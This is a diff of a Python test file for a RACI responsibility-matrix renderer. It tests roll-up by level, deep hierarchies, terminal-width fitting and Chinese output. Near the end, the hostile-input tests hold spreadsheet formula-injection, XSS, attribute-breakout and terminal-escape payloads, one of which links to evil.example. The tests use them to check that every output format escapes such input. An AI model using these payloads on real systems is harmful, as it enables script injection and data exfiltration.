@@ -7,9 +7,11 @@ import io
 import re
 import shutil
 import subprocess
+import warnings
 from html.parser import HTMLParser
 from pathlib import Path
 
+import attrs
 import openpyxl
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -17,9 +19,10 @@ from hypothesis import HealthCheck, given, settings
 import raci
 from helpers import EXAMPLES, loads
 from raci._text import display_width
-from raci.render._matrix_text import fit
-from raci.render.matrix import render_matrix
+from raci.render._matrix_text import fit, fit_all
+from raci.render.matrix import MatrixWidthWarning, render_matrix
 from raci.render.matrix_table import build_matrix
+from raci.schemes import BUILTIN_SCHEMES
 from strategies import organizations
 
 DATA = Path(__file__).resolve().parent.parent / "data" / "sheets"
@@ -100,7 +103,16 @@ class TestBuild:
     @pytest.mark.parametrize(
         ("options", "message"),
         [
-            ({"level": "galaxy"}, "unknown level 'galaxy'; the levels are organization"),
+            (
+                {"level": "galaxy"},
+                "unknown level 'galaxy'; the levels in use are organization, division, branch",
+            ),
+            ({"level": "divison"}, "did you mean `division`?"),
+            (
+                {"level": "section"},
+                "no unit is at level 'section'; the levels in use are organization, division,"
+                " branch",
+            ),
             ({"parties": ["ceo", "nobody"]}, "no party 'nobody'"),
             ({"groups": ["nope"]}, "no group 'nope'"),
             ({"level": "division", "parties": ["ship"]}, "at level 'division': 'ship'"),
@@ -145,8 +157,8 @@ class TestRollUp:
         webinar = next(r for r in m.rows if r.id == "url-webinars")
         assert webinar.cells[ids.index("plgs")] == ("R", "A")
 
-    def test_unknown_levels_keep_columns(self, tmp_path: Path) -> None:
-        """Without levels in the file nothing is known to roll up: columns stay."""
+    def test_no_levels_in_use(self, tmp_path: Path) -> None:
+        """Without levels on any unit nothing can be rolled up: an error that says so."""
         path = tmp_path / "org.csv"
         path.write_text("id,name,parent\ntop,Top,\nteam,Team,top\n")
         org = raci.load(path)
@@ -158,7 +170,24 @@ class TestRollUp:
                 )
             },
         )
-        assert [c.id for c in build_matrix(org, level="division").columns] == ["team"]
+        with pytest.raises(raci.QueryError, match="no unit has a level"):
+            build_matrix(org, level="division")
+
+    def test_units_without_a_level_keep_columns(self) -> None:
+        """A unit with no level and no level above it keeps its own column."""
+        org = loads(
+            """
+            version: 1
+            units:
+              - id: top
+                level: organization
+              - {id: div, level: division, parent: top}
+              - {id: loose, parent: top}
+            deliverables:
+              - {id: d, raci: {A: loose, R: div}}
+            """
+        )
+        assert [c.id for c in build_matrix(org, level="division").columns] == ["div", "loose"]
 
     def test_shared_rank(self) -> None:
         """A level shares its rank with its equals: an office rolls up as a division."""
@@ -170,12 +199,91 @@ class TestRollUp:
         assert rows["rpd-tor"].cells[1] == ("R", "A", "C")
 
 
+def chain(depth: int, level_every: int = 0) -> raci.Organization:
+    """A hierarchy ``depth`` units deep, one unit under the other, with roles at the top,
+    the middle and the bottom; every ``level_every``-th unit is a division."""
+    units = {"u0": raci.Unit("u0", raci.Names.plain("Top"), "organization")}
+    for i in range(1, depth):
+        level = "division" if level_every and i % level_every == 0 else None
+        units[f"u{i}"] = raci.Unit(f"u{i}", raci.Names.plain(f"Unit {i}"), level, f"u{i - 1}")
+    roles = (("A", "u0"), ("C", f"u{depth // 2}"), ("R", f"u{depth - 1}"))
+    item = raci.Deliverable(
+        "d",
+        raci.Names.plain("Deep work"),
+        assignments=tuple(raci.Assignment("d", r, p) for r, p in roles),
+    )
+    return raci.Organization(names=raci.Names.plain("Chain"), units=units, deliverables={"d": item})
+
+
+class TestDeepHierarchy:
+    """A hierarchy is walked once: a 10,000-deep chain of units renders in moments."""
+
+    def test_chain(self) -> None:
+        """Chart order, and the enclosing units of each column, from the top down."""
+        m = build_matrix(chain(10_000))
+        assert [c.id for c in m.columns] == ["u0", "u5000", "u9999"]
+        assert [c.groups for c in m.columns] == [
+            (),
+            (("u1", "Unit 1"), ("u2", "Unit 2")),
+            (("u1", "Unit 1"), ("u2", "Unit 2")),
+        ]
+        assert m.rows[0].cells == (("A",), ("C",), ("R",))
+
+    def test_chain_rolled_up(self) -> None:
+        """Each unit counts for the nearest division above it."""
+        m = build_matrix(chain(10_000, level_every=1000), level="division")
+        assert [c.id for c in m.columns] == ["u0", "u5000", "u9000"]
+        assert render_matrix(chain(10_000), format="html")
+
+    def test_cycle(self) -> None:
+        """Units in a cycle still get a column, and the walk ends."""
+        org = chain(5)
+        units = dict(org.units)
+        units["u1"] = attrs.evolve(units["u1"], parent="u3")
+        org = attrs.evolve(org, units=units)
+        m = build_matrix(org)
+        assert {c.id for c in m.columns} == {"u0", "u2", "u4"}
+        assert [c.id for c in build_matrix(org, level="organization").columns] == ["u0", "u2", "u4"]
+
+
+def many_parties(n: int = 40, rows: int = 6) -> raci.Organization:
+    """``n`` units with long names that share a start, all holding roles on rows whose long
+    names share their first 60 characters."""
+    units = "".join(
+        f"  - {{id: u{i}, name: Regional office for programme delivery {i}, parent: top}}\n"
+        for i in range(n)
+    )
+    informed = ", ".join(f"u{i}" for i in range(n))
+    items = "".join(
+        f"  - {{id: d{i}, name: '{LONG_PREFIX}, part {i}',"
+        f" raci: {{A: u{i}, R: [u{(i + 1) % n}], I: [{informed}]}}}}\n"
+        for i in range(rows)
+    )
+    return loads(
+        "version: 1\nunits:\n  - {id: top, name: Top}\n" + units + "deliverables:\n" + items
+    )
+
+
+#: Sixty characters that several deliverable names start with.
+LONG_PREFIX = "Prepare the annual report on programme delivery and the budg"
+assert len(LONG_PREFIX) == 60
+
+
+def text_of(org: raci.Organization, **options: object) -> tuple[str, list[str]]:
+    """The terminal table and the warnings rendering it gave."""
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        text = render_matrix(org, **options)  # type: ignore[arg-type]
+    assert isinstance(text, str)
+    return text, [str(w.message) for w in caught if w.category is MatrixWidthWarning]
+
+
 class TestText:
-    """The terminal table."""
+    """The terminal table: fits the terminal, cut names stay distinguishable."""
 
     def test_exact(self, acme: raci.Organization) -> None:
         """Columns line up; groups head their rows; the legend closes."""
-        assert render_matrix(acme, level="division") == (
+        assert render_matrix(acme, level="division", width=80) == (
             "Deliverable  │ Chief Executi…  Operations  Finance  Board\n"
             "─────────────┼───────────────────────────────────────────\n"
             "Loose end    │       A             R\n"
@@ -188,12 +296,86 @@ class TestText:
             "R Responsible  A Accountable  C Consulted  I Informed\n"
         )
 
+    def test_shorter_headers_to_fit(self, acme: raci.Organization) -> None:
+        """At 80 columns the six Acme parties fit with names cut to 12 columns."""
+        text, warned = text_of(acme, width=80)
+        assert not warned
+        assert max(display_width(line) for line in text.splitlines()) <= 80
+        assert (
+            "Deliverable  │ Chief Execu…  Operations  Shipping  Shipping cl…  Finance  Board"
+            in text.splitlines()
+        )
+
+    def test_numbered_columns(self, acme: raci.Organization) -> None:
+        """Narrower still, the columns are numbered and a key below names them."""
+        text, warned = text_of(acme, width=50)
+        assert not warned
+        lines = text.splitlines()
+        assert max(display_width(line) for line in lines) <= 50
+        assert "Deliverable  │ 1 2 3 4   5 6" in lines
+        assert "  Budget     │ A C       R I" in lines
+        assert lines[lines.index("Parties:") + 1 :][:3] == [
+            "1 Chief Executive  2 Operations",
+            "3 Shipping         4 Shipping clerk",
+            "5 Finance          6 Board",
+        ]
+
+    def test_forty_parties_at_200(self) -> None:
+        """Forty parties fit 200 columns: numbered, every name in full in the key."""
+        text, warned = text_of(many_parties(), width=200)
+        assert not warned
+        lines = text.splitlines()
+        assert max(display_width(line) for line in lines) <= 200
+        assert lines[0].split("│")[1].split() == [str(i) for i in range(1, 41)]
+        for i in range(40):
+            assert f"{i + 1:>2} Regional office for programme delivery {i}" in text
+
+    def test_forty_parties_at_80(self) -> None:
+        """Forty parties cannot fit 80 columns: a warning says so and what to do."""
+        text, warned = text_of(many_parties(), width=80)
+        [message] = warned
+        assert "the terminal 80" in message
+        assert "--level" in message
+        assert "-o matrix.html" in message
+        key = text.split("Parties:\n")[1].split("\n\n")[0].splitlines()
+        assert len(key) == 40
+        assert max(display_width(line) for line in key) <= 80
+
+    def test_default_width_is_the_terminal(self, monkeypatch: pytest.MonkeyPatch) -> None:
+        """Without a width the table fits the terminal (here $COLUMNS)."""
+        monkeypatch.setenv("COLUMNS", "200")
+        assert not text_of(many_parties())[1]
+        monkeypatch.setenv("COLUMNS", "80")
+        assert text_of(many_parties())[1]
+
+    def test_file_has_no_width_limit(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+        """A .txt file is not cut to the terminal: party names head the columns."""
+        monkeypatch.setenv("COLUMNS", "80")
+        text, warned = text_of(many_parties(), path=tmp_path / "m.txt")
+        assert not warned
+        assert "Parties:" not in text
+
+    def test_bad_width(self, acme: raci.Organization) -> None:
+        with pytest.raises(TypeError, match="width must be an int"):
+            render_matrix(acme, width="80")  # type: ignore[arg-type]
+        with pytest.raises(ValueError, match="width must be 0"):
+            render_matrix(acme, width=-1)
+
+    def test_long_names_stay_distinguishable(self) -> None:
+        """Row labels sharing a 60-character start are cut so that they still differ."""
+        for width in (80, 200):
+            text, _ = text_of(many_parties(rows=6), width=width)
+            labels = [line.split("│")[0].strip() for line in text.splitlines()[2:8]]
+            assert len(set(labels)) == 6, labels
+            assert all(label.endswith(f" {i}") for i, label in enumerate(labels)), labels
+
     def test_cjk_is_two_columns_wide(self) -> None:
         """With Chinese names the separators still line up on screen."""
-        text = str(render_matrix(raci.load(UN_HABITAT), lang="zh"))
+        text = str(render_matrix(raci.load(UN_HABITAT), lang="zh", width=200))
         bars = {display_width(line[: line.index("│")]) for line in text.splitlines() if "│" in line}
         assert len(bars) == 1
         assert "人居署内罗毕总部的结构调整" in text
+        assert text.splitlines()[2].startswith("交付成果")
 
     def test_fit(self) -> None:
         """Cutting counts wide characters as two columns."""
@@ -201,6 +383,42 @@ class TestText:
         assert display_width(fit("人居署执行局", 7)) <= 7
         assert fit("short", 7) == "short"
         assert fit("two\nlines", 20) == "two lines"
+
+    @pytest.mark.parametrize(
+        ("texts", "width"),
+        [
+            ([LONG_PREFIX + " part 1", LONG_PREFIX + " part 2"], 20),
+            ([LONG_PREFIX + " part 1", LONG_PREFIX + " part 2", LONG_PREFIX], 30),
+            (
+                [
+                    "Review of A for the region (final version)",
+                    "Review of B for the region (final version)",
+                ],
+                12,
+            ),
+            ([f"{LONG_PREFIX} (middle {i}) and then the same long ending" for i in range(3)], 24),
+            (["人居署执行局第一届会议报告", "人居署执行局第二届会议报告"], 12),
+            (["x" * 50 + "a" + "y" * 50, "x" * 50 + "b" + "y" * 50], 8),
+        ],
+    )
+    def test_fit_all(self, texts: list[str], width: int) -> None:
+        """Different texts stay different however they are cut, and fit the width."""
+        cut = fit_all(texts, width)
+        assert len(set(cut)) == len(texts), cut
+        assert all(display_width(c) <= width for c in cut), cut
+
+    def test_fit_all_shows_where_look_alikes_part(self) -> None:
+        """Names that differ in their last words keep those words, not a number."""
+        texts = [f"{LONG_PREFIX} for region {i} part {j}" for i in range(20) for j in range(20)]
+        cut = fit_all(texts, 30)
+        assert len(set(cut)) == 400
+        assert cut[21] == "Prepare th…for region 1 part 1"
+        assert not [c for c in cut if "#" in c]
+        wide = ["人居署执行局第一届会议报告", "人居署执行局第二届会议报告"]
+        assert fit_all(wide, 12) == ["人居…局第一…", "人居…局第二…"]
+
+    def test_fit_all_keeps_what_fits(self) -> None:
+        assert fit_all(["Budget", "Forecast", "Budget"], 10) == ["Budget", "Forecast", "Budget"]
 
 
 class TestMarkdown:
@@ -277,8 +495,8 @@ class TestHtml:
         assert len([t for t in tags if t[0] == "td"]) == 4 * 6
         role_cells = [a["class"] for t, a in tags if t == "td" and a.get("class")]
         assert role_cells.count("x1") == 3  # A alone, in scheme position 1
-        assert role_cells.count("x0") == 5  # R first: four times R, once R/A
-        assert 'class="x0">R/A</td>' in html
+        assert role_cells.count("x0") == 4  # R alone
+        assert 'class="x1 y0">R/A</td>' in html  # coloured as A, with a stripe of R
 
     def test_self_contained(self, acme: raci.Organization) -> None:
         """No scripts or fetches; sticky header and a print stylesheet."""
@@ -362,7 +580,11 @@ class TestXlsx:
         assert ws.row_dimensions[3].height == 100  # room for "Chief Executive" turned up
         assert [c.value for c in ws[6]] == ["forecast", "Forecast", "Planning", None,
                                             None, None, None, "C", "R/A", None]  # fmt: skip
-        assert ws["I6"].fill.fgColor.rgb == "009FD8A4"  # R/A coloured as R
+        assert ws["I6"].fill.fgColor.rgb == "00F4A3A3"  # R/A coloured as A ...
+        assert ws["I6"].border.bottom.color.rgb == "003F9A48"  # ... with a stripe of R
+        assert ws["I6"].border.bottom.style == "thick"
+        assert ws["G7"].fill.fgColor.rgb == "009FD8A4"  # R
+        assert ws["G7"].border.bottom.style is None
         assert ws["E4"].fill.fgColor.rgb == "00F4A3A3"  # A
         assert ws["H6"].fill.fgColor.rgb == "00A9C8F0"  # C
         assert ws.column_dimensions["B"].width == 12
@@ -381,8 +603,12 @@ class TestXlsx:
             ("I", "Informed", None),
         ]
         assert ws["A3"].fill.fgColor.rgb == "00F4A3A3"
-        assert rows[6] == ("Column", "Party", "Name")
-        assert rows[7] == ("E", "ceo", "Chief Executive")
+        assert rows[5][0] == "R/A"
+        assert rows[5][1].startswith("A cell with several roles takes the colour of Accountable")
+        assert ws["A6"].fill.fgColor.rgb == "00F4A3A3"
+        assert ws["A6"].border.bottom.color.rgb == "003F9A48"
+        assert rows[7] == ("Column", "Party", "Name")
+        assert rows[8] == ("E", "ceo", "Chief Executive")
 
     def test_formula_injection_and_control_characters(self) -> None:
         """Formula-like names are text with a leading apostrophe; control characters go."""
@@ -513,6 +739,13 @@ class TestFiles:
         org = raci.load(DATA / "visio.csv")
         assert render_matrix(org, format=fmt)
 
+    @pytest.mark.parametrize("width", [0, 1, 10, 80])
+    def test_empty_at_any_width(self, width: int) -> None:
+        org = raci.load(DATA / "visio.csv")
+        with warnings.catch_warnings():
+            warnings.simplefilter("ignore", MatrixWidthWarning)
+            assert render_matrix(org, width=width)
+
     def test_bad_suffix(self, acme: raci.Organization, tmp_path: Path) -> None:
         with pytest.raises(ValueError, match=r"cannot write a matrix as '\.pdf'"):
             render_matrix(acme, tmp_path / "m.pdf")
@@ -593,3 +826,186 @@ class TestRoundTrip:
         out = tmp_path / "m.xlsx"
         render_matrix(org, out)
         assert assignments(raci.load(out, org=org)) == assignments(org)
+
+
+#: Role letters and role names that try to break out of every format.
+EVIL_LETTERS = (
+    '=HYPERLINK("http://x/?"&A1,"y")',
+    "+1",
+    "@SUM(1)",
+    "<img src=x onerror=alert(1)>",
+    "|",
+    "\x1b]8;;http://evil.example\x07",
+    "bell\x07\x00",
+)
+
+
+def hostile_letters() -> raci.Organization:
+    """Acme with a deliverable whose letters are not role letters, and a custom scheme whose
+    role names hold terminal escapes and tags."""
+    org = raci.load(ACME)
+    odd = raci.Deliverable(
+        "odd",
+        raci.Names.plain("[80cm] *starred* row 🚀\x1b[31m"),
+        assignments=tuple(
+            raci.Assignment("odd", letter, party)
+            for letter, party in zip(
+                EVIL_LETTERS, ["ceo", "ops", "fin", "board", "ship", "clerk", "acme"], strict=True
+            )
+        ),
+    )
+    scheme = raci.Scheme(
+        "Mine",
+        (
+            raci.Role("R", "\x1b[31mRed\x1b[0m <b>doer</b>", 1, None, "responsible"),
+            raci.Role("A", 'Owner "quoted" | piped', 1, 1, "accountable"),
+        ),
+    )
+    return attrs.evolve(org, scheme=scheme, deliverables={**org.deliverables, "odd": odd})
+
+
+class TestHostileLetters:
+    """Letters and role names are escaped like any other text, flagged by validate or not."""
+
+    def test_xlsx(self) -> None:
+        """No letter becomes a formula; control characters do not crash the writer."""
+        data = render_matrix(hostile_letters(), format="xlsx")
+        assert isinstance(data, bytes)
+        book = openpyxl.load_workbook(io.BytesIO(data))
+        cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
+        assert all(c.data_type != "f" for c in cells)
+        values = {c.value for c in cells}
+        assert {'\'=HYPERLINK("http://x/?"&A1,"y")', "'+1", "'@SUM(1)", "bell"} <= values
+        assert not [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "@")]
+
+    def test_markdown(self) -> None:
+        """No raw tag, and a `|` letter does not split its cell."""
+        text = str(render_matrix(hostile_letters(), format="md"))
+        assert not re.search(r"(?<!\\)<", text)
+        assert r"\<img src=x onerror=alert(1)\>" in text
+        row = next(line for line in text.splitlines() if "80cm" in line)
+        assert len(re.findall(r"(?<!\\)\|", row)) == 2 + len(
+            build_matrix(hostile_letters()).columns
+        )
+        assert "\x1b" not in text
+        assert "\x07" not in text
+
+    def test_terminal(self) -> None:
+        """No escape sequence reaches the terminal, from letters or role names."""
+        text = str(render_matrix(hostile_letters(), width=300))
+        assert "\x1b" not in text
+        assert "\x07" not in text
+        assert "\x00" not in text
+        assert "\ufffd[31mRed\ufffd[0m <b>doer</b>" in text
+
+    def test_html(self) -> None:
+        """Letters and role names are text, never tags."""
+        html = str(render_matrix(hostile_letters(), format="html"))
+        tags = TestHtml().parse(html).tags
+        assert "img" not in {t for t, _ in tags}
+        assert "&lt;img src=x onerror=alert(1)&gt;" in html
+        assert "&lt;b&gt;doer&lt;/b&gt;" in html
+        assert "Owner &quot;quoted&quot; | piped" in html
+
+    def test_tex(self) -> None:
+        """A row starting with `[` or `*` is no argument of `\\\\`; no control characters or
+        emoji in the file."""
+        tex = str(render_matrix(hostile_letters(), format="tex"))
+        assert r"\\[" not in tex.replace(" ", "").replace("\n", "")
+        assert r"{[}80cm{]} *starred* row" in tex
+        assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", tex)
+        assert "🚀" not in tex
+        starred = attrs.evolve(
+            hostile_letters(),
+            deliverables={
+                "s": raci.Deliverable(
+                    "s", raci.Names.plain("*star"), assignments=(raci.Assignment("s", "A", "ceo"),)
+                )
+            },
+        )
+        assert "\n{}*star & " in str(render_matrix(starred, format="tex"))
+
+
+class TestHtmlAttributes:
+    """Titles, division headings and group headings cannot open a tag or an attribute."""
+
+    ORG = """
+    version: 1
+    units:
+      - id: top
+        name: Top
+        units:
+          - id: div
+            name: '"><b onmouseover=alert(1)>Division'
+            units:
+              - {id: a, name: 'Unit "A" onmouseover="alert(2)'}
+              - {id: b, name: Unit B}
+          - {id: c, name: Unit C}
+    groups:
+      - {id: g, name: '<i onclick=alert(3)>Group</i>'}
+    deliverables:
+      - {id: d, name: 'Row "quoted"', group: g, raci: {A: a, R: b, C: c}}
+    """
+
+    def test_attributes(self) -> None:
+        html = str(render_matrix(loads(self.ORG), format="html"))
+        tags = TestHtml().parse(html).tags
+        allowed = {
+            "class",
+            "title",
+            "colspan",
+            "rowspan",
+            "scope",
+            "lang",
+            "charset",
+            "name",
+            "content",
+        }
+        assert {k for _, attrs_ in tags for k in attrs_} <= allowed
+        assert 'title="Unit &quot;A&quot; onmouseover=&quot;alert(2) (a)"' in html
+        assert "&lt;i onclick=alert(3)&gt;Group&lt;/i&gt;" in html
+        assert "><div>&quot;&gt;&lt;b onmouseover=alert(1)&gt;Division</div></th>" in html
+        assert 'title="&quot;&gt;&lt;b onmouseover=alert(1)&gt;Division"' in html
+
+
+class TestWords:
+    """The matrix's fixed words in its language."""
+
+    def test_chinese(self, acme: raci.Organization) -> None:
+        md = str(render_matrix(acme, format="md", lang="zh"))
+        assert md.startswith("# 责任矩阵：阿克米\n")
+        assert "| 交付成果 | 首席执行官 |" in md
+        assert "| 字母 | 角色 |" in md
+        assert "| R | 负责 |\n| A | 批准 |\n| C | 咨询 |\n| I | 知会 |" in md
+        html = str(render_matrix(acme, format="html", lang="zh"))
+        assert "<title>责任矩阵：阿克米</title>" in html
+        assert '<th class="corner" rowspan="3">交付成果</th>' in html
+        assert "外部相关方" in html
+        text = str(render_matrix(acme, lang="zh", width=200))
+        assert "R 负责  A 批准  C 咨询  I 知会" in text
+        assert "相关方：\n1 首席执行官" in str(render_matrix(acme, lang="zh", width=40))
+        tex = str(render_matrix(acme, format="tex", lang="zh"))
+        assert r"\small 交付成果" in tex
+        assert r"\usepackage{CJKutf8}" in tex
+        data = render_matrix(acme, format="xlsx", lang="zh")
+        assert isinstance(data, bytes)
+        legend = openpyxl.load_workbook(io.BytesIO(data))["Legend"]
+        assert [c.value for c in legend[1]][:2] == ["字母", "角色"]
+
+    @pytest.mark.parametrize(
+        ("scheme", "names"),
+        [
+            ("DACI", "D 推动  A 审批  C 贡献  I 知会"),
+            ("RASCI", "R 负责  A 批准  S 支持  C 咨询  I 知会"),
+            ("RACI-VS", "R 负责  A 批准  C 咨询  I 知会  V 核实  S 签署"),
+            ("CAIRO", "R 负责  A 批准  C 咨询  I 知会  O 不参与"),
+        ],
+    )
+    def test_builtin_schemes(self, acme: raci.Organization, scheme: str, names: str) -> None:
+        org = attrs.evolve(acme, scheme=BUILTIN_SCHEMES[scheme])
+        assert names in str(render_matrix(org, lang="zh", width=300))
+
+    def test_custom_scheme_keeps_its_names(self) -> None:
+        text = str(render_matrix(hostile_letters(), lang="zh", width=300))
+        assert 'Owner "quoted" | piped' in text
+        assert "交付成果" in text
